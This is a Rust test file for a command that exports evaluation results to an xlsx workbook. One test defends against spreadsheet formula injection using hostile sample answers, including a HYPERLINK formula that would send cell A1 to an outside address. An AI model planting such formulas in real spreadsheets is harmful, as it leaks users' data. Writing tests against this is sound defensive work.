//! `ragline export xlsx`: the sheet given back with verdicts, read by another reader than the one that wrote it.

#![allow(clippy::unwrap_used, clippy::panic, clippy::wildcard_enum_match_arm, reason = "a test may")]

mod binary_kit;

use binary_kit::Folder;
use calamine::{Data, DataType, Reader, Xlsx, open_workbook};
use std::collections::BTreeMap;
use std::io::Read;

const SUITE: &str = "version: 1
suite: shop
language: vi
questions:
  - { id: a, question: Đổi trả trong bao lâu?, facts: [7 ngày], reference: Trong 7 ngày. }
  - { id: b, question: Phí giao hàng?, facts: [25.000 đồng] }
  - { id: c, question: Ai trả lời?, reference: Chăm sóc khách }
  - { id: d, question: Mở cửa mấy giờ?, facts: [8 giờ] }
";

/// A run, and the rows of its workbook by id: each cell by its column's name.
fn exported(answers: &str) -> (Folder, BTreeMap<String, BTreeMap<String, Data>>) {
    let folder = Folder::with(&[("suites/shop.yaml", SUITE), ("answers.jsonl", answers)]);
    folder.run(&["run", "--answers", "answers.jsonl"]);
    folder.run(&["export", "xlsx", "--out", "out/shop.xlsx"]).exits(0).shows(&["wrote out/shop.xlsx: 4 questions"]);
    let mut book: Xlsx<_> = open_workbook(folder.path().join("out/shop.xlsx")).unwrap();
    let range = book.worksheet_range("ragline").unwrap();
    let names: Vec<String> = range.rows().next().unwrap().iter().map(|c| c.as_string().unwrap()).collect();
    assert_eq!(
        names,
        [
            "suite",
            "id",
            "question",
            "reference",
            "answer",
            "verdict",
            "changed",
            "retrieval",
            "facts",
            "refusal",
            "numbers",
            "citation",
            "first finding",
            "diagnosis"
        ]
    );
    let rows = range.rows().skip(1).map(|row| {
        let cells: BTreeMap<String, Data> = names.iter().cloned().zip(row.iter().cloned()).collect();
        (cells["id"].as_string().unwrap(), cells)
    });
    (folder, rows.collect())
}

fn text(cells: &BTreeMap<String, Data>, column: &str) -> String {
    match &cells[column] {
        Data::String(text) => text.clone(),
        Data::Empty => String::new(),
        other => panic!("{column} is {other:?}"),
    }
}

#[test]
fn a_row_says_what_the_run_says() {
    let (_, rows) = exported(
        "{\"id\":\"a\",\"answer\":\"Trong 7 ngày.\"}\n{\"id\":\"b\",\"answer\":\"Là 20.000 đồng.\"}\n\
         {\"id\":\"c\",\"answer\":\"Bộ phận chăm sóc\"}\n{\"id\":\"d\",\"error\":\"timeout\"}\n",
    );
    let a = &rows["a"];
    assert_eq!(text(a, "question"), "Đổi trả trong bao lâu?");
    assert_eq!(text(a, "reference"), "Trong 7 ngày.");
    assert_eq!(
        (text(a, "verdict"), text(a, "facts"), text(a, "first finding")),
        ("pass".into(), "pass".into(), String::new())
    );
    let b = &rows["b"];
    assert_eq!((text(b, "verdict"), text(b, "facts")), ("fail".into(), "fail".into()));
    assert!(
        text(b, "first finding").contains("“20.000 đồng” is stated. ")
            || text(b, "first finding").contains("fact-wrong-value")
    );
    assert_eq!(text(b, "changed"), "new, fails");
    assert!(!text(b, "diagnosis").is_empty());
    assert_eq!(
        (text(&rows["c"], "verdict"), text(&rows["c"], "answer")),
        ("observed".into(), "Bộ phận chăm sóc".into())
    );
    assert_eq!(text(&rows["d"], "verdict"), "unmeasured");
}

#[test]
fn hostile_answers_are_text_and_never_formulas() {
    let hostile = ["=HYPERLINK(\"http://192.0.2.1/\"&A1,\"click\")", "+1+1", "@SUM(1;1)\u{1}\u{b}", "-2+3"];
    let lines: String = ["a", "b", "c", "d"]
        .iter()
        .zip(hostile)
        .map(|(id, answer)| serde_json::json!({ "id": id, "answer": answer }).to_string() + "\n")
        .collect();
    let (folder, rows) = exported(&lines);
    for (id, answer) in ["a", "b", "c", "d"].iter().zip(hostile) {
        assert_eq!(text(&rows[*id], "answer"), answer.replace(char::is_control, ""));
    }
    let file = std::fs::File::open(folder.path().join("out/shop.xlsx")).unwrap();
    let mut archive = zip::ZipArchive::new(file).unwrap();
    let mut sheet = String::new();
    archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("hyperlink"), "{sheet}");
    assert!(sheet.contains("state=\"frozen\""), "{sheet}");
}

#[test]
fn the_same_run_gives_the_same_bytes_and_reads_back_as_a_sheet() {
    let answers = "{\"id\":\"a\",\"answer\":\"Trong 7 ngày.\"}\n{\"id\":\"b\",\"answer\":\"25.000 đồng\"}\n\
                   {\"id\":\"c\",\"answer\":\"x\"}\n{\"id\":\"d\",\"answer\":\"8 giờ\"}\n";
    let (folder, _) = exported(answers);
    folder.run(&["export", "xlsx", "--out", "again.xlsx"]).exits(0);
    let bytes = |name: &str| std::fs::read(folder.path().join(name)).unwrap();
    assert_eq!(bytes("out/shop.xlsx"), bytes("again.xlsx"));
    // What people wrote into the sheet comes back.
    folder.run(&["import", "xlsx", "again.xlsx"]).exits(0).shows(&["question is C", "answer   is"]);
}

#[test]
fn what_cannot_be_exported_is_told() {
    let folder = Folder::with(&[("suites/shop.yaml", SUITE), ("file", "")]);
    folder.run(&["export", "xlsx", "--out", "a.xlsx"]).exits(2).says(&["no-run"]);
    folder.write("answers.jsonl", b"{\"id\":\"a\",\"answer\":\"x\"}\n");
    folder.run(&["run", "--answers", "answers.jsonl"]);
    folder.run(&["export", "xlsx", "--out", "file/a.xlsx"]).exits(5);
}
